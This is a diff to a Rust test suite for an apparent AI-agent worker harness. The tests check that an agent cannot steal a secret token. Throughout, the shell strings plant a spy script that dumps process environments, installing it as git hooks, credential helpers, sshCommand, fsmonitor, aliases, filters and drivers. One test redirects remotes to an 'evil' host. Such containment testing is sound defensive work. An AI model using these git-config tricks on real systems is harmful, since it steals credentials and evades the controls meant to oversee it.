@@ -14,7 +14,7 @@ use std::process::Command;
 use serde_json::Value;
 
 use crate::support::origin::program;
-use crate::support::{Forge, Origin, Receiver, path};
+use crate::support::{Forge, Origin, Receiver, path, quoted};
 
 const BRANCH: &str = "descartes/proj-456/8";
 
@@ -30,17 +30,18 @@ impl Scene {
     fn new() -> Self {
         let origin = Origin::with(&[("README", "A house.\n"), ("src/main", "roof\n")]);
         // Different for every test, because spies of other tests run at the same time.
-        let token = format!("tok_{}", origin.path("").display()).replace(['/', '.'], "x");
+        let token = format!("tok_{}", origin.path("").display());
+        let token = token.replace(|c: char| !c.is_ascii_alphanumeric(), "x");
         let spy = origin.path("spy");
         let script = format!(
             "{{ tr '\\0' '\\n' < /proc/self/environ; echo \"ran as $0 $*\"
             for process in /proc/[0-9]*; do
-                case $(readlink $process/exe) in
+                case $(readlink \"$process/exe\") in
                     *descartes-worker) ;;
                     *) tr '\\0' '\\n' < $process/environ ;;
                 esac
             done; }} >> {} 2>/dev/null; cat; exit 0",
-            origin.path("loot").display()
+            quoted(origin.path("loot"))
         );
         program(&spy, &script);
         Self {
@@ -59,19 +60,17 @@ impl Scene {
         fs::read_to_string(self.origin.path("loot")).unwrap_or_default()
     }
 
-    /// Has an agent do its work and then its mischief; `$SPY` is the spy, `$AT` a directory of the
-    /// agent's outside the project. Gives the terminal event.
+    /// Has an agent do its work and then its mischief; `$SPY` is the spy's path, `$RUN` a shell's
+    /// command that runs it, `$AT` a directory of the agent's outside the project. Gives the
+    /// terminal event.
     #[track_caller]
     fn play(&self, mischief: &str) -> Value {
         let path = format!("{}:{}", self.origin.path("bin").display(), path().display());
         let agent = format!(
-            "SPY={}; AT={}; echo done > DONE\n{mischief}\nrm -f $AT/loot; true",
-            self.spy().display(),
-            self.origin
-                .path("tmp")
-                .parent()
-                .expect("a parent")
-                .display()
+            "SPY={}; RUN={}; AT={}; echo done > DONE\n{mischief}\nrm -f \"$AT/loot\"; true",
+            quoted(self.spy()),
+            quoted(quoted(self.spy())),
+            quoted(self.origin.path("tmp").parent().expect("a parent"))
         );
         let worker = self.origin.worker(&self.receiver);
         let worker = worker
@@ -117,7 +116,7 @@ fn the_spy_sees_what_there_is_to_see() {
 #[test]
 fn the_agent_itself_is_not_shown_the_token() {
     let scene = Scene::new();
-    let event = scene.play("$SPY < /dev/null; mv $AT/loot $AT/kept");
+    let event = scene.play(r#""$SPY" < /dev/null; mv "$AT/loot" "$AT/kept""#);
     assert_eq!(event["status"], "completed");
     let seen = fs::read_to_string(scene.origin.path("kept")).unwrap();
     assert!(
@@ -129,23 +128,24 @@ fn the_agent_itself_is_not_shown_the_token() {
 #[test]
 fn hooks_do_not_run() {
     Scene::new().harmless(
-        "mkdir -p .git/hooks; for hook in pre-commit commit-msg post-commit pre-push post-checkout post-index-change \
-         reference-transaction pre-auto-gc fsmonitor-watchman; do cp $SPY .git/hooks/$hook; done
-         git config core.hooksPath $PWD/.git/hooks; git config --global core.hooksPath $PWD/.git/hooks",
+        r#"mkdir -p .git/hooks; for hook in pre-commit commit-msg post-commit pre-push post-checkout post-index-change
+         do cp "$SPY" .git/hooks/$hook; done
+         for hook in reference-transaction pre-auto-gc fsmonitor-watchman; do cp "$SPY" .git/hooks/$hook; done
+         git config core.hooksPath "$PWD/.git/hooks"; git config --global core.hooksPath "$PWD/.git/hooks""#,
     );
 }
 
 #[test]
 fn a_file_system_monitor_does_not_run() {
     Scene::new()
-        .harmless("git config core.fsmonitor $SPY; git config --global core.fsmonitor $SPY");
+        .harmless(r#"git config core.fsmonitor "$RUN"; git config --global core.fsmonitor "$RUN""#);
 }
 
 #[test]
 fn an_ssh_command_does_not_run() {
     let scene = Scene::new();
     let mischief = format!(
-        "for where in --local --global; do git config $where core.sshCommand $SPY
+        "for where in --local --global; do git config $where core.sshCommand \"$RUN\"
          git config $where ssh.variant simple; git config $where url.ssh://evil/.insteadOf {}/; done",
         scene.forge.base()
     );
@@ -156,9 +156,9 @@ fn an_ssh_command_does_not_run() {
 fn a_credential_helper_is_not_asked() {
     let scene = Scene::new();
     let mischief = format!(
-        "for where in --local --global; do git config $where credential.helper \"!$SPY\"
-         git config $where credential.{}.helper \"!$SPY\"; done
-         printf 'machine 127.0.0.1 login agent password guessed\\n' > $HOME/.netrc",
+        "for where in --local --global; do git config $where credential.helper \"!$RUN\"
+         git config $where credential.{}.helper \"!$RUN\"; done
+         printf 'machine 127.0.0.1 login agent password guessed\\n' > \"$HOME/.netrc\"",
         scene.forge.base()
     );
     scene.harmless(&mischief);
@@ -186,16 +186,17 @@ fn another_url_instead_is_not_taken() {
 
 #[test]
 fn a_program_that_asks_for_passwords_does_not_run() {
-    Scene::new()
-        .harmless("for where in --local --global; do git config $where core.askPass $SPY; done");
+    Scene::new().harmless(
+        r#"for where in --local --global; do git config $where core.askPass "$SPY"; done"#,
+    );
 }
 
 #[test]
 fn a_diff_of_the_agents_does_not_run() {
     Scene::new().harmless(
-        "for where in --local --global; do git config $where diff.external $SPY; git config $where diff.spy.textconv $SPY
-         git config $where diff.spy.command $SPY; git config $where core.pager $SPY; git config $where interactive.diffFilter $SPY; done
-         echo '* diff=spy' > .gitattributes; mkdir -p .git/info; echo '* diff=spy' > .git/info/attributes; echo changed >> README",
+        r#"for where in --local --global; do git config $where diff.external "$RUN"; git config $where diff.spy.textconv "$RUN"
+         git config $where diff.spy.command "$RUN"; git config $where core.pager "$RUN"; git config $where interactive.diffFilter "$RUN"; done
+         echo '* diff=spy' > .gitattributes; mkdir -p .git/info; echo '* diff=spy' > .git/info/attributes; echo changed >> README"#,
     );
 }
 
@@ -203,28 +204,36 @@ fn a_diff_of_the_agents_does_not_run() {
 fn aliases_do_not_run() {
     Scene::new().harmless(
         "for where in --local --global; do for command in init add write-tree commit-tree rev-parse rev-list push diff \
-         cat-file merge-base read-tree; do git config $where alias.$command \"!$SPY\"; done; done",
+         cat-file merge-base read-tree; do git config $where alias.$command \"!$RUN\"; done; done",
     );
 }
 
 #[test]
 fn included_configuration_is_not_in_force() {
     Scene::new().harmless(
-        "printf '[core]\\n\\tfsmonitor = %s\\n\\tsshCommand = %s\\n\\taskPass = %s\\n[credential]\\n\\thelper = \"!%s\"\\n' \
-         $SPY $SPY $SPY $SPY > $AT/evil; git config include.path $AT/evil; git config --global include.path $AT/evil
-         git config includeIf.gitdir:/.path $AT/evil
-         mkfifo $AT/fifo; printf '[include]\\n\\tpath = %s\\n' $AT/fifo >> .git/config",
+        r#"set_evil() { git config --file "$AT/evil" "$@"; }
+         set_evil core.fsmonitor "$RUN"; set_evil core.sshCommand "$RUN"; set_evil core.askPass "$SPY"
+         set_evil credential.helper "!$RUN"; git config include.path "$AT/evil"; git config --global include.path "$AT/evil"
+         git config includeIf.gitdir:/.path "$AT/evil"
+         mkfifo "$AT/fifo"; git config --add include.path "$AT/fifo""#,
     );
 }
 
 #[test]
 fn filters_that_the_agent_configured_run_without_the_token() {
     let scene = Scene::new();
-    let event = scene.play(
-        "for where in --local --global; do git config $where filter.spy.clean $AT/clean; done
-         printf '#!/bin/sh\\necho ran >> %s/ran\\ntr \"\\\\0\" \"\\\\n\" < /proc/self/environ >> %s/loot\\ntr a-z A-Z\\n' $AT $AT > $AT/clean; chmod +x $AT/clean
-         echo 'new filter=spy' > .gitattributes; echo new > new; echo ignored >> .git/info/exclude; touch ignored",
-    );
+    let filter = quoted(quoted(scene.origin.path("clean")));
+    let event = scene.play(&format!(
+        r#"cat > "$AT/clean" <<'END'
+#!/bin/sh
+at=${{0%/*}}
+echo ran >> "$at/ran"
+tr '\0' '\n' < /proc/self/environ >> "$at/loot"
+tr a-z A-Z
+END
+         chmod +x "$AT/clean"; for where in --local --global; do git config $where filter.spy.clean {filter}; done
+         echo 'new filter=spy' > .gitattributes; echo new > new; echo ignored >> .git/info/exclude; touch ignored"#
+    ));
     assert_eq!(event["status"], "completed", "{event}");
     assert!(scene.origin.path("ran").exists(), "the filter did not run");
     assert_eq!(scene.origin.show(BRANCH, "new"), "NEW");
@@ -233,12 +242,12 @@ fn filters_that_the_agent_configured_run_without_the_token() {
 }
 
 #[test]
-fn attributes_of_the_agent_run_no_merge_and_no_diff_driver() {
+fn attributes_of_the_agent_run_no_merge_driver() {
     let scene = Scene::new();
     scene.harmless(
-        "mkdir -p .git/info $HOME/.config/git; for file in .gitattributes .git/info/attributes $HOME/.config/git/attributes; do
-         echo '* merge=spy text eol=crlf' > $file; done
-         for where in --local --global; do git config $where merge.spy.driver $SPY; done; touch README; echo new > new",
+        r#"mkdir -p .git/info "$HOME/.config/git"; for file in .gitattributes .git/info/attributes "$HOME/.config/git/attributes"; do
+         echo '* merge=spy text eol=crlf' > "$file"; done
+         for where in --local --global; do git config $where merge.spy.driver "$RUN"; done; touch README; echo new > new"#,
     );
     assert_eq!(scene.origin.show(BRANCH, "new"), "new");
 }
